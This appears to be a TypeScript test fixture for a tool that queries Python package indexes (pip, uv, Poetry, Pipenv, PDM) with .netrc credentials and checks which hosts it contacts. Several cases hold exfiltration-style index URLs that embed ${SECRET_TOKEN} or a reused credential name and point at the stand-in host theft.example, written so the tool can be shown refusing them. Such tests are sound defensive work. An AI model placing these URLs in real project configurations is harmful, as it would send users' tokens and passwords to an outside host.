import { basic } from './person.ts';
import type { Shape } from './shape.ts';

const uv = (name: string, ...indexes: readonly string[]): string =>
  `[project]\nname = "own"\ndependencies = ["${name}==1.0"]\n${indexes.map((it) => `[[tool.uv.index]]\n${it}\n`).join('')}`;
const poetry = (name: string, ...hosts: readonly string[]): string =>
  `[tool.poetry.dependencies]\n${name} = "1.0"\n${hosts.map((it) => `[[tool.poetry.source]]\nname = "${it.replace(/\W/g, '-')}"\nurl = "https://${it}.acme.example/simple/"\n`).join('')}`;

export const pythonShapes: readonly Shape[] = [
  {
    isOfWorkspace: true,
    title: 'uv works offline',
    files: {
      'pyproject.toml': uv('secret-lib', 'name = "acme"\nurl = "https://uv.acme.example/simple/"'),
      'uv.toml': 'offline = true\n[[index]]\nname = "acme"\nurl = "https://uv.acme.example/simple/"\n',
    },
    asked: [],
    hover: 'uv.toml makes its client work offline',
  },
  {
    isOfWorkspace: true,
    title: 'pip, an index of the workspace with a password in .netrc',
    files: { 'requirements.txt': '--index-url https://pypi.acme.example/simple/\nsecret-lib==1.0\n' },
    asked: [`pypi.acme.example ${basic('of-pypi')}`],
    hover: 'From pypi.acme.example',
  },
  {
    isOfWorkspace: true,
    title: 'pip, an extra index of the workspace',
    files: { 'requirements.txt': '--extra-index-url https://extra.acme.example/simple/\nsecret-lib==1.0\n' },
    asked: ['extra.acme.example'],
    hover: 'From extra.acme.example',
  },
  {
    isOfWorkspace: true,
    title: 'pip, a variable in the address',
    files: { 'requirements.txt': '--index-url https://${SECRET_TOKEN}@theft.example/simple/\nsecret-lib==1.0\n' },
    asked: [],
    hover: 'Not looked up',
  },
  {
    isOfWorkspace: true,
    title: 'pip, a password that the index does not accept',
    files: {
      'requirements.txt': '--index-url https://denied-pypi.acme.example/simple/\nsecret-lib==1.0\nsecret-more==1.0\n',
    },
    asked: [`denied-pypi.acme.example ${basic('of-denied')}`],
    hover: 'denied-pypi.acme.example does not accept the credential in ~/.netrc',
  },
  {
    isOfWorkspace: true,
    title: 'pip, a redirect to another host',
    files: { 'requirements.txt': '--index-url https://moved-pypi.acme.example/simple/\nsecret-lib==1.0\n' },
    asked: ['elsewhere.acme.example', `moved-pypi.acme.example ${basic('of-moved')}`],
    hover: 'From moved-pypi.acme.example',
  },
  {
    isOfWorkspace: true,
    title: 'uv, the second index where the first one does not have the package',
    files: {
      'pyproject.toml': uv(
        'secret-lib',
        'url = "https://none-uv.acme.example/simple/"',
        'url = "https://pypi.acme.example/simple/"',
        'url = "https://never-uv.acme.example/simple/"',
      ),
    },
    asked: ['none-uv.acme.example', `pypi.acme.example ${basic('of-pypi')}`],
    hover: 'License unknown',
  },
  {
    isOfWorkspace: true,
    title: 'uv, a variable in the address of an index',
    files: { 'pyproject.toml': uv('secret-uv', 'url = "https://me:${SECRET_TOKEN}@theft.example/simple/"') },
    asked: [],
    hover: 'SECRET_TOKEN',
  },
  {
    isOfWorkspace: true,
    title: 'Poetry, two sources whose versions are joined',
    files: { 'pyproject.toml': poetry('secret-lib', 'none-poetry', 'open-poetry') },
    asked: ['none-poetry.acme.example', 'open-poetry.acme.example'],
    hover: 'License unknown',
  },
  {
    isOfWorkspace: true,
    title: 'Poetry, a source with a password in its address',
    files: { 'pyproject.toml': poetry('secret-lib', 'me:of-poetry@login-poetry') },
    asked: [`login-poetry.acme.example ${basic('of-poetry')}`],
    hover: 'From login-poetry.acme.example (pyproject.toml)',
  },
  {
    isOfWorkspace: true,
    title: 'uv, another address for the name of a password of the person',
    files: { 'pyproject.toml': uv('secret-lib', 'name = "kept"\nurl = "https://theft.example/simple/"') },
    asked: [],
    hover: 'is for the name kept',
  },
  {
    isOfWorkspace: true,
    title: 'Poetry, another address for the name of a password of the person',
    files: {
      'pyproject.toml':
        '[tool.poetry.dependencies]\nsecret-lib = "1.0"\n[[tool.poetry.source]]\nname = "kept"\nurl = "https://theft.example/simple/"\n',
    },
    asked: [],
    hover: 'is for the name kept',
  },
  {
    isOfWorkspace: true,
    title: 'Pipenv, a variable in the address of a source',
    files: {
      Pipfile:
        '[[source]]\nname = "own"\nurl = "https://me:$SECRET_TOKEN@theft.example/simple"\nverify_ssl = true\n[packages]\nsecret-lib = "==1.0"\n',
    },
    asked: [],
    hover: 'SECRET_TOKEN',
  },
  {
    isOfWorkspace: true,
    title: 'PDM, a source with a password in its address',
    files: {
      'pyproject.toml':
        '[project]\nname = "own"\ndependencies = ["secret-lib==1.0"]\n[[tool.pdm.source]]\nname = "pypi"\nurl = "https://me:beside@pdm.acme.example/simple"\n',
    },
    asked: [`pdm.acme.example ${basic('beside')}`],
    hover: 'From pdm.acme.example (pyproject.toml)',
  },
  {
    isOfWorkspace: true,
    title: 'pip, an index over plain http on a host with a password',
    files: { 'requirements.txt': '--index-url http://pypi.acme.example/simple/\nsecret-lib==1.0\n' },
    asked: [],
    hover: 'without encryption',
  },
  {
    isOfWorkspace: true,
    title: 'pip, a loopback address',
    files: { 'requirements.txt': '--index-url http://[::1]:9/simple/\nsecret-lib==1.0\n' },
    asked: [],
    hover: 'Not looked up',
  },
];
